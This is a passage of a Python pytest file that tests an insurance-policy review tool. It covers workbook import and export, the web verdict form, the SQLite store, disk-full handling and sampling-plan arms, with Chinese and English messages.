    assert res.recorded == ws.max_row - 1 == store.count()


def test_a_review_workbook_with_an_uncalculated_formula_is_refused(run_dir, tmp_path):
    from scoring import SubmissionError

    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    _fill(ws, col, 2)
    ws.cell(row=2, column=col["核查结论"], value='=IF(1,"服务缺失","")')
    wb.save(book)
    with pytest.raises(SubmissionError) as e:
        import_workbook(run, store, book, reviewer="王芳")
    assert "没有计算结果" in e.value.message_zh and store.count() == 0


def test_a_folder_that_is_not_a_run_is_said_and_left_as_it_was(scored, tmp_path):
    sub, _ = scored
    for args in (["review", str(sub)], ["review", "workbook", str(sub), "--out", str(tmp_path / "w.xlsx")],
                 ["review", "export", str(sub), "--out", str(tmp_path / "e.csv")]):
        r = CliRunner().invoke(cli, args)
        assert r.exit_code == 1 and "不是" in r.output and "Traceback" not in r.output, (args, r.output)
    assert not (sub / "review.sqlite").exists()


def test_the_same_verdict_again_says_nothing_new_was_recorded(run_dir):
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    assert "verdict saved" in c.get(post(c, pid).headers["location"]).text
    again = post(c, pid, reviewer="李四")
    page = c.get(again.headers["location"]).text
    assert "未新增记录" in page and "verdict saved" not in page and ReviewStore(run_dir / "review.sqlite").count() == 1


def test_a_disk_that_fails_under_a_verdict_is_said_in_both_languages(run_dir, monkeypatch):
    c = client(create_app(run_dir), raise_server_exceptions=False)
    pid = scores(run_dir)["policy_id"].iloc[0]
    token = csrf(c, pid)

    def full(*a, **k):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(ReviewStore, "record", full)
    r = post(c, pid, token=token)
    assert r.status_code == 503 and "结论未保存" in r.text and "nothing was saved" in r.text


def test_line_breaks_of_a_browser_do_not_count_as_a_change_in_the_workbook(run_dir, tmp_path):
    """A browser sends a textarea's line breaks as CRLF; stored as LF, a workbook of the verdict
    read back untouched records nothing."""
    c = client(create_app(run_dir))
    s = scores(run_dir)
    pid = s.loc[s["flag"] != "", "policy_id"].iloc[0]
    assert post(c, pid, notes="第一行\r\n第二行").status_code == 303
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    assert store.history(pid)[-1]["notes"] == "第一行\n第二行"
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    res = import_workbook(run, store, book, reviewer="李四")
    assert (res.recorded, res.unchanged) == (0, 1) and store.count() == 1


def test_a_workbook_row_every_way_it_can_go_wrong_is_accounted_for(run_dir, tmp_path):
    """An exact copy of a row records once; two rows of one policy that disagree are both rejected
    even when one has a bad date; a value beyond the last header is a rejected row, not an
    imbalance; a column added and verdicts typed in the notes sheet are named."""
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    pid = [ws.cell(row=r, column=col["保单号"]).value for r in range(2, 6)]
    _fill(ws, col, 2)
    last = ws.max_row
    row2 = [c.value for c in ws[2]]
    ws.append(row2)  # an exact copy of row 2
    _fill(ws, col, 3, outcome="服务缺失")
    ws.append([c.value for c in ws[3]][:col["核查编号"] - 1] + [f"RV-{pid[1]}-b"] + [None] * 5)
    _fill(ws, col, last + 2, outcome="服务到位", date="2025-02-30")  # the same policy, another verdict, a bad date
    _fill(ws, col, 4)
    ws.cell(row=4, column=len(col) + 2, value="stray")  # beyond the last header
    wb["说明"].cell(row=9, column=1, value=f"{pid[3]} 服务缺失")
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert res.balanced and res.recorded == 1 and res.unchanged == 1, res.summary()
    rej = res.rejected.set_index("row")
    assert {3, last + 2} <= set(rej.index) and "另有不同的结论" in rej.at[3, "message_zh"]
    assert 4 in rej.index and "列数与表头不符" in rej.at[4, "message_zh"]
    assert store.current()["policy_id"].tolist() == [pid[0]]
    assert "说明" in res.summary()
    # a column added to the sheet, with or without a header, is named as not read
    wb, ws, col = _book_cols(book)
    ws.cell(row=4, column=len(col) + 1, value=None)
    ws.cell(row=1, column=len(col) + 3, value="复核意见")
    ws.cell(row=5, column=len(col) + 3, value="同意")
    ws.cell(row=5, column=len(col) + 2, value="无表头")
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert "复核意见" in res.summary() and f"第 {len(col) + 2} 列（无表头）" in res.summary()


def test_a_reviewer_name_that_cannot_be_a_name_stops_the_import_at_once(run_dir, tmp_path):
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    for name in ("张\u200b三", "   ", ""):
        r = CliRunner().invoke(cli, ["review", "import", str(run_dir), str(book), "--reviewer", name])
        assert r.exit_code == 2 and "--reviewer" in r.output, (name, r.output)


def test_a_policy_id_of_the_longest_length_keeps_its_verdict_through_the_workbook(run_dir, tmp_path):
    from scoring.review.exchange import inspections_table, review_inspection_id
    from scoring.schema import ID_MAX

    long_id = "P" * ID_MAX
    assert len(review_inspection_id(long_id)) <= ID_MAX and review_inspection_id(long_id) == review_inspection_id(long_id)
    s = scores(run_dir)
    s.loc[s.index[0], "policy_id"] = long_id
    s.to_csv(run_dir / "policy_scores.csv", index=False, encoding="utf-8-sig")
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=col["保单号"]).value == long_id)
    _fill(ws, col, row)
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert res.recorded == 1 and res.rejected.empty
    assert inspections_table(store)["inspection_id"].str.len().max() <= ID_MAX


def test_a_full_disk_leaves_no_half_written_export(run_dir, scored, tmp_path, monkeypatch):
    """The workbook, the inspections export and the labelled submission are written whole or not
    at all: on a full disk no temporary and no partial folder stays, and the message names them."""
    import errno
    import os
    from pathlib import Path

    sub, _ = scored
    c = client(create_app(run_dir, submission=sub))
    assert post(c, scores(run_dir)["policy_id"].iloc[0]).status_code == 303
    out = tmp_path / "out"
    out.mkdir()

    def full(*a, **k):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(Path, "write_bytes", full)
    import scoring.review.exchange as exchange

    monkeypatch.setattr(exchange, "write_csv", full)
    for args, name in ((["review", "workbook", str(run_dir), "--out", str(out / "w.xlsx")], "w.xlsx"),
                       (["review", "export", str(run_dir), "--out", str(out / "e.csv")], "e.csv"),
                       (["review", "export", str(run_dir), "--labelled", str(out / "lab"), "--submission", str(sub)], "lab")):
        r = CliRunner().invoke(cli, args)
        assert r.exit_code == 1 and "磁盘空间已满" in r.output and name in r.output and "Traceback" not in r.output, (args, r.output)
    assert list(out.iterdir()) == []


def test_a_workbook_is_never_written_over_a_file_of_another_kind(run_dir, tmp_path):
    keep = tmp_path / "important.txt"
    keep.write_text("mine")
    r = CliRunner().invoke(cli, ["review", "workbook", str(run_dir), "--out", str(keep)])
    assert r.exit_code == 2 and ".xlsx" in r.output and keep.read_text() == "mine"


def test_a_plan_filters_the_list_by_arm_and_a_random_arm_verdict_is_random_by_default(run_dir, tmp_path):
    from scoring.jobs import run_sample
    from scoring.review.app import policy_url

    plan, _ = run_sample(run_dir, tmp_path / "plan.csv", capacity=400, seed=2)
    rows = plan.rows
    random_ids = set(rows.loc[rows["arm"] == "random", "policy_id"])
    c = client(create_app(run_dir, plan=tmp_path / "plan.csv"))
    page = c.get("/", params={"flag": "plan_random"}).text
    assert "抽查计划·随机组" in page
    assert f"共 {len(random_ids)}" in page or str(len(random_ids)) in page
    pid = sorted(random_ids)[0]
    form = c.get(policy_url(pid)).text
    assert '<option value="random" selected>' in form
    risk = rows.loc[rows["arm"] == "risk", "policy_id"].iloc[0]
    assert '<option value="targeted" selected>' in c.get(policy_url(risk)).text
    plain = client(create_app(run_dir))
    assert "抽查计划·随机组" not in plain.get("/").text


def test_a_plan_joins_the_workbook_and_its_random_arm_reads_back_as_random(run_dir, tmp_path):
    from scoring.jobs import run_sample
    from scoring.review.run import plan_arms

    plan, _ = run_sample(run_dir, tmp_path / "plan.csv", capacity=400, seed=2)
    arms = plan_arms(tmp_path / "plan.csv")
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    n_plain = write_workbook(run, store, tmp_path / "plain.xlsx")
    n = write_workbook(run, store, tmp_path / "plan.xlsx", arms)
    wb = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    ws = wb[SHEET]
    head = [c.value for c in ws[1]]
    ids = {r[head.index("保单号")]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert n > n_plain and set(arms) <= set(ids)
    pid = sorted(p for p, a in arms.items() if a == "random")[0]
    assert ids[pid][head.index("抽查方式")] == "随机抽查"
    # filled in by a reviewer: outcome and date; the prefilled selection comes back as random
    row = next(i for i, r in enumerate(ws.iter_rows(min_row=2, values_only=True), start=2) if r[head.index("保单号")] == pid)
    ws.cell(row=row, column=head.index("核查结论") + 1, value="服务缺失")
    ws.cell(row=row, column=head.index("核查日期") + 1, value=dt.date(2025, 12, 1))
    ws.cell(row=row, column=head.index("核查单位") + 1, value="市应急管理局")
    wb.save(tmp_path / "filled.xlsx")
    result = import_workbook(run, store, tmp_path / "filled.xlsx", reviewer="张三")
    assert result.recorded == 1
    cur = store.current().set_index("policy_id")
    assert cur.loc[pid, "selection"] == "random"


def test_a_run_scored_from_a_relative_path_finds_its_submission_from_any_folder(tmp_path, monkeypatch):
    """run.json keeps the path as given (the report prints it) and the resolved one, which the
    review reads: a workbook written from another folder still names the enterprises."""
    import json

    write_submission(world(300, 4), tmp_path / "work" / "sub")
    monkeypatch.chdir(tmp_path / "work")
    run_score("sub", "run")
    run = json.loads((tmp_path / "work" / "run" / "run.json").read_text(encoding="utf-8"))
    assert run["submission"] == "sub" and Path(run["submission_path"]).is_absolute()
    monkeypatch.chdir(tmp_path)
    opened = ReviewRun.open(tmp_path / "work" / "run")
    names = opened.names(opened.scores.index[:5])
    assert all(names), names
